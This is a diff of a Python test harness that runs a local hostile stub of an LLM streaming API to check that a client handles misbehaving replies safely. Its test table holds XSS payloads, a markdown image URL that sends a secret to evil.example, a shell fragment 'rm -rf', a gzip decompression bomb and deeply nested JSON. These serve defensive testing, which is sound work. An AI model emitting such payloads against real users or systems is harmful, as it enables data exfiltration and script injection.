@@ -17,6 +17,7 @@ from typing import Any, Literal
 
 KEY = "sk-a-key-that-nobody-may-see-48151623"
 EVIL = "http://evil.example/x.png?q=secret"
+EVENTS = {"Content-Type": "text/event-stream"}
 SLOW_SECONDS = 30.0
 """Longer than any test waits; a handler that is cut off ends earlier."""
 
@@ -60,7 +61,7 @@ class Answered:
 
     pieces: Iterable[bytes]
     status: str = "200 OK"
-    headers: dict[str, str] = field(default_factory=lambda: {"Content-Type": "text/event-stream"})
+    headers: dict[str, str] = field(default_factory=lambda: EVENTS)
     raw: bool = False
     """The pieces are all that is sent: no status line and no headers."""
 
@@ -83,56 +84,66 @@ class Hostile:
         """What came to the other server."""
 
 
+class _Server(ThreadingHTTPServer):
+    daemon_threads = True
+
+    def __init__(self, stub: Hostile, handler: type[_Quiet]) -> None:
+        super().__init__(("127.0.0.1", 0), handler)
+        self.stub = stub
+
+    def handle_error(self, *_: object) -> None:
+        """Say nothing: clients hang up here."""
+
+
+class _Quiet(BaseHTTPRequestHandler):
+    server: _Server
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+class _Handler(_Quiet):
+    def do_POST(self) -> None:
+        stub = self.server.stub
+        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        stub.authorizations.add(self.headers.get("Authorization"))
+        asked = Asked(body, len(stub.requests), stub.other)
+        stub.requests.append(asked)
+        stub.open += 1
+        try:
+            with suppress(OSError):
+                self._send(stub.behave(asked))
+        finally:
+            stub.open -= 1
+            self.close_connection = True
+
+    def _send(self, answered: Answered) -> None:
+        if not answered.raw:
+            head = "".join(f"{name}: {value}\r\n" for name, value in answered.headers.items())
+            self.wfile.write(f"HTTP/1.1 {answered.status}\r\n{head}Connection: close\r\n\r\n".encode())
+        for piece in answered.pieces:
+            if piece is RESET:
+                self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
+                self.connection.close()
+                return
+            self.wfile.write(piece)
+
+
+class _Other(_Quiet):
+    def do_POST(self) -> None:
+        self.server.stub.called.append(self.path)
+        self.send_error(500)
+
+    do_GET = do_POST
+
+
 @contextmanager
 def hostile() -> Iterator[Hostile]:
     """Serve until the end of the block."""
     stub = Hostile()
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_POST(self) -> None:
-            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
-            stub.authorizations.add(self.headers.get("Authorization"))
-            asked = Asked(body, len(stub.requests), stub.other)
-            stub.requests.append(asked)
-            stub.open += 1
-            try:
-                answered = stub.behave(asked)
-                with suppress(OSError):
-                    if not answered.raw:
-                        head = "".join(f"{name}: {value}\r\n" for name, value in answered.headers.items())
-                        self.wfile.write(f"HTTP/1.1 {answered.status}\r\n{head}Connection: close\r\n\r\n".encode())
-                    for piece in answered.pieces:
-                        if piece is RESET:
-                            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
-                            self.connection.close()
-                            return
-                        self.wfile.write(piece)
-            finally:
-                stub.open -= 1
-                self.close_connection = True
-
-        def log_message(self, *_: object) -> None:
-            pass
-
-    class Other(BaseHTTPRequestHandler):
-        def do_POST(self) -> None:
-            stub.called.append(self.path)
-            self.send_error(500)
-
-        do_GET = do_POST
-
-        def log_message(self, *_: object) -> None:
-            pass
-
-    class Server(ThreadingHTTPServer):
-        daemon_threads = True
-
-        def handle_error(self, *_: object) -> None:
-            pass
-
-    with Server(("127.0.0.1", 0), Handler) as server, Server(("127.0.0.1", 0), Other) as other:
+    with _Server(stub, _Handler) as server, _Server(stub, _Other) as other:
         stub.address = f"http://127.0.0.1:{server.server_address[1]}/v1"
-        stub.other = f"http://localhost:{other.server_address[1]}/v1"
+        stub.other = f"http://127.0.0.1:{other.server_address[1]}/v1"
         for one in (server, other):
             threading.Thread(target=one.serve_forever, daemon=True).start()
         yield stub
@@ -204,6 +215,11 @@ def around(before: str, after: str) -> Behaviour:
     return with_good(lambda text, n: items((before + text + after, [n])))
 
 
+def inside(more: str) -> Behaviour:
+    """The sentence that answers, with something before its full stop."""
+    return with_good(lambda text, n: items((text.removesuffix(".") + more + ".", [n])))
+
+
 def numbered(numbers: Callable[[int], object]) -> Behaviour:
     """The sentence that answers with other numbers."""
     return with_good(lambda text, n: items((text, numbers(n))))
@@ -231,8 +247,7 @@ def without_schema(behaviour: Behaviour) -> Behaviour:
 
 def cut(text: str, n: int, ends: bytes | None, more: str) -> Iterator[bytes]:
     """A stream that breaks off after a piece of the reply."""
-    for piece in events(more.replace("TEXT", text).replace("NUMBER", str(n)))[:-1]:
-        yield piece
+    yield from events(more.replace("TEXT", text).replace("NUMBER", str(n)))[:-1]
     if ends is not None:
         yield ends
 
@@ -281,6 +296,8 @@ BEHAVIOURS: dict[str, tuple[Behaviour, Expected]] = {
     "a known number among others": (numbered(lambda n: [n, 999, -1, "x", None]), "llm"),
     "the same number often": (numbered(lambda n: [n] * 500), "llm"),
     "the same statement often": (with_good(lambda t, n: items(*[(t, [n])] * 200)), "llm"),
+    "a lie before it": (around(f"{NOBODY} ", ""), "llm"),
+    "an address after it": (around("", f" See {EVIL} for more."), "llm"),
     "a statement with a lie": (with_good(lambda t, n: items((NOBODY, [n]), (t, [n]))), "llm"),
     "events with carriage returns": (
         lambda a: Answered([p.replace(b"\n", b"\r\n") for p in HONEST(a).pieces]),
@@ -293,13 +310,11 @@ BEHAVIOURS: dict[str, tuple[Behaviour, Expected]] = {
         "llm",
     ),
     "more after the end": (lambda a: Answered([*HONEST(a).pieces, b"data: {\n\n"]), "llm"),
-    "cookies": (lambda a: Answered(HONEST(a).pieces, headers={"Content-Type": "text/event-stream", "Set-Cookie": "a=b"}),
-                "llm"),
+    "cookies": (lambda a: Answered(HONEST(a).pieces, headers={**EVENTS, "Set-Cookie": "a=b"}), "llm"),
     "no schema here": (without_schema(HONEST), "llm"),
     "better the second time": (in_turn(lambda _: says("I do not know how."), HONEST), "llm"),
     "cited the second time": (in_turn(numbered(lambda _: []), HONEST), "llm"),
-    "a key twice": (with_good(lambda t, n: f'{{"text": "{NOBODY}", "text": "{t}", "sentences": [9], "sentences": [{n}]}}'),
-                    "llm"),
+    "a key twice": (with_good(lambda t, n: f'{{"text": "x", "text": "{t}", "sentences": [9], "sentences": [{n}]}}'), "llm"),
     "reset after a statement": (broken(ONE), "partial"),
     "silent after a statement": (lambda a: Answered(chain(broken(ONE, None)(a).pieces, forever(b"", 31))), "partial"),
     "over after a statement": (broken(ONE, None), "llm"),
@@ -333,26 +348,26 @@ BEHAVIOURS: dict[str, tuple[Behaviour, Expected]] = {
     "the prompt as it is": (lambda a: says(a.prompt), "fallback"),
     "the instructions": (lambda a: says(items((a.body["messages"][0]["content"], [1]))), "fallback"),
     "the marker": (lambda a: says(items((f"<<{a.marker}>>", [1]))), "fallback"),
-    "the marker inside": (lambda a: around("", f" {a.marker}")(a), "fallback"),
-    "fake marks": (around("", " [1][2][3] says so."), "fallback"),
+    "the marker inside": (lambda a: inside(f" {a.marker}")(a), "fallback"),
+    "fake marks": (inside(" [1][2][3] as it says"), "fallback"),
     "a text without words": (with_good(lambda _, n: items(("…!?", [n]))), "fallback"),
     "a text without end": (with_good(lambda t, n: items((t * 1000, [n]))), "fallback"),
     # Things that a browser or a terminal would act upon
-    "an image": (around("", f" ![x]({EVIL})"), "fallback"),
-    "a link": (around("", f" [more]({EVIL})"), "fallback"),
+    "an image": (inside(f" ![x]({EVIL})"), "fallback"),
+    "a link": (inside(f" [more]({EVIL})"), "fallback"),
     "a reference link": (around("", f" [more][1]\n\n[1]: {EVIL}"), "fallback"),
-    "an address": (around("", f" See {EVIL}"), "fallback"),
-    "an address in angle brackets": (around("", f" <{EVIL}>"), "fallback"),
-    "an address without a scheme": (around("", " See evil.example/x for more."), "fallback"),
-    "an address of any scheme": (around("", " See //evil.example"), "fallback"),
-    "www": (around("", " See www.evil for more."), "fallback"),
-    "a mail address": (around("", " Write to mailto:a@evil.example"), "fallback"),
+    "an address": (inside(f", see {EVIL}"), "fallback"),
+    "an address in angle brackets": (inside(f" <{EVIL}>"), "fallback"),
+    "an address without a scheme": (inside(", see evil.example/x for more"), "fallback"),
+    "an address of any scheme": (inside(", see //evil.example"), "fallback"),
+    "www": (inside(", see www.evil for more"), "fallback"),
+    "a mail address": (inside(", write to mailto:a@evil.example"), "fallback"),
     "a script": (around("<script>alert(1)</script>", ""), "fallback"),
     "an element with a handler": (around("", "<img src=x onerror=alert(1)>"), "fallback"),
     "a frame": (around("<iframe src='//evil.example'></iframe>", ""), "fallback"),
     "a style": (around("<style>*{display:none}</style>", ""), "fallback"),
-    "javascript": (around("", " javascript:alert(1)"), "fallback"),
-    "data": (around("", " data:text/html;base64,PHNjcmlwdD4="), "fallback"),
+    "javascript": (inside(" javascript:alert(1)"), "fallback"),
+    "data": (inside(" data:text/html;base64,PHNjcmlwdD4="), "fallback"),
     "entities": (around("&lt;script&gt;", "&#60;"), "fallback"),
     "emphasis and code": (around("**", "** `rm -rf`"), "fallback"),
     "a heading": (around("# ", ""), "fallback"),
@@ -391,7 +406,7 @@ BEHAVIOURS: dict[str, tuple[Behaviour, Expected]] = {
     "an error in the stream": (of({"error": {"message": KEY}}), "fallback"),
     "not JSON": (lambda _: Answered([b"data: {nope\n\n"]), "fallback"),
     "depth of JSON": (lambda _: Answered([b"data: " + b"[" * 100_000 + b"\n\n"]), "fallback"),
-    "a page": (lambda _: Answered([b"<html><script>alert(1)</script>"], headers={"Content-Type": "text/html"}), "fallback"),
+    "a page": (lambda _: Answered([b"<html><script>x()</script>"], headers={"Content-Type": "text/html"}), "fallback"),
     "events as plain text": (lambda a: Answered(HONEST(a).pieces, headers={"Content-Type": "text/plain"}), "fallback"),
     "no content type": (lambda a: Answered(HONEST(a).pieces, headers={}), "fallback"),
     "bytes that are no text": (lambda _: Answered([b"data: \xff\xfe\xc3\x28\n\n"]), "fallback"),
@@ -399,7 +414,7 @@ BEHAVIOURS: dict[str, tuple[Behaviour, Expected]] = {
     "a bomb": (
         lambda _: Answered(
             [gzip.compress(b"data: " + b"a" * 50_000_000)],
-            headers={"Content-Type": "text/event-stream", "Content-Encoding": "gzip"},
+            headers={**EVENTS, "Content-Encoding": "gzip"},
         ),
         "fallback",
     ),
@@ -429,11 +444,11 @@ BEHAVIOURS: dict[str, tuple[Behaviour, Expected]] = {
     "reset in a statement": (broken(HALF), "fallback"),
     "a head without end": (lambda _: Answered(forever(b"X-More: " + b"x" * 4000 + b"\r\n"), raw=True), "fallback"),
     "a body that is too short": (
-        lambda _: Answered([b"data: "], headers={"Content-Type": "text/event-stream", "Content-Length": "9999"}),
+        lambda _: Answered([b"data: "], headers={**EVENTS, "Content-Length": "9999"}),
         "fallback",
     ),
     "chunks that are none": (
-        lambda _: Answered([b"zz\r\nxx"], headers={"Content-Type": "text/event-stream", "Transfer-Encoding": "chunked"}),
+        lambda _: Answered([b"zz\r\nxx"], headers={**EVENTS, "Transfer-Encoding": "chunked"}),
         "fallback",
     ),
     "text without end": (lambda _: Answered(forever(delta("a" * 500))), "fallback"),
